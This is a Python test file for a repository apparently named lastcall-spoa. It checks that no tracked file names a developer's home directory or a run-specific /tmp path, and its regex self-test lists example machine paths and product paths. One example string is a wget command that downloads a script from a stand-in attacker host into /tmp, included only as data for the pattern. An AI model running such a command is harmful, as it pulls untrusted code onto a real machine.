"""No tracked file names a path of one particular machine: a developer's workspace or home
directory, or a run's own temporary directory or lock file under /tmp (the test below shows
which, with examples built at run time so that this file names none itself). Docs, scripts
and result files say `target/release/lastcall-spoa`, `<dir>`, `<work>` instead.

What the product itself uses passes: /etc/..., /usr/bin/turnserver, /var/tmp/turnserver.pid,
/coraza-spoa, /opt/lastcall-spoa/crs, paths inside a container or pod; and, in /tmp, a
mktemp template (/tmp/bench-spoa.XXXXXX) or a fixed example name (/tmp/haproxy.sock)."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]

# A path starts after a character that cannot be inside one (so crates/x/work/y, a URL's
# host/work/ and ~/work/ do not count).
START = r"(?<![\w.~/-])"
# A developer machine's own trees.
HOMES = re.compile(START + r"/(?:work|root|Users|home/[\w.-]+)/[\w.-]")
# In /tmp: a name that only one run had (mkdtemp's random suffix: letters and digits mixed
# after a dot, a dash or an underscore; tmp.*, pytest-of-*), or a lock file of one machine's
# tools.
TMP_NAME = r"/tmp/([\w.+-]+)"
RUN_SPECIFIC = [
    re.compile(r"^tmp[._]?\w{4,}"),
    re.compile(r"^pytest-of-"),
    re.compile(r"[._-](?=[A-Za-z_]*\d)(?=\d*[A-Za-z_])[A-Za-z0-9_]{6,}$"),
    re.compile(r"\.lock$"),
]

# A path that reads like a machine's but is not, with the reason: (file, path) -> why.
ALLOWED: dict[tuple[str, str], str] = {}


def tracked_text_files() -> list[str]:
    """Every file git tracks, this one included."""
    out = subprocess.run(["git", "ls-files", "-z"], cwd=REPO, capture_output=True, check=True)
    return [name for name in out.stdout.decode().split("\0") if name]


def machine_paths(text: str) -> list[str]:
    """The machine-specific paths in `text`, in order."""
    found = [m.group(0) + re.match(r"[\w./-]*", text[m.end():]).group(0) for m in HOMES.finditer(text)]
    for m in re.finditer(START + TMP_NAME, text):
        name = m.group(1).rstrip(".")
        if "XXX" in name:
            continue  # a mktemp template
        if any(rule.search(name) for rule in RUN_SPECIFIC):
            found.append(m.group(0))
    return found


def test_the_rule_tells_machine_paths_from_product_paths():
    # Built at run time: written out, they would be what the test below refuses.
    r, t = "/", "/tmp/"
    machine = [f"{r}work/bin/quiet bash x", f"see {r}work/main/target/release/lastcall-spoa",
               f"{r}root/.cargo/bin/cargo", f"{r}home/alice/src/lastcall", f"{r}Users/bob/x",
               f"flock {t}bench.lock bash", f"{t}soak-spoa.agq7zaq7/config/agent.yaml",
               f"{t}pytest-of-root/pytest-3/x", f"{t}tmp.Ab12Cd34/x", f"{t}docs-truth-k2j4h5l6/b.json"]
    product = ["/etc/turnserver.conf", "/usr/bin/turnserver", "/var/tmp/turnserver.pid", "/coraza-spoa",
               "/opt/lastcall-spoa/crs", "mktemp -d /tmp/bench-spoa.XXXXXX", "STATS_SOCKET=/tmp/haproxy.sock",
               "/tmp/admin-token", "wget http://evil.example/x.sh -O /tmp/x.sh", "crates/spoa/work/x",
               "https://example.org/work/x", "~/work/lastcall", "/run/haproxy/admin.sock",
               "/tmp/spoa-bench-results"]
    assert [t for t in machine if not machine_paths(t)] == []
    assert [t for t in product if machine_paths(t)] == []


def test_no_tracked_file_names_a_machine_path():
    bad = []
    for name in tracked_text_files():
        path = REPO / name
        try:
            data = path.read_bytes()
        except (FileNotFoundError, IsADirectoryError):
            continue  # deleted in the work tree, or a submodule
        if b"\0" in data[:8192]:
            continue  # binary
        for n, line in enumerate(data.decode(errors="replace").splitlines(), 1):
            for p in machine_paths(line):
                if (name, p) not in ALLOWED:
                    bad.append(f"{name}:{n}: {p}")
    assert not bad, "paths of one machine (say target/..., <dir> or <work> instead):\n" + "\n".join(bad)
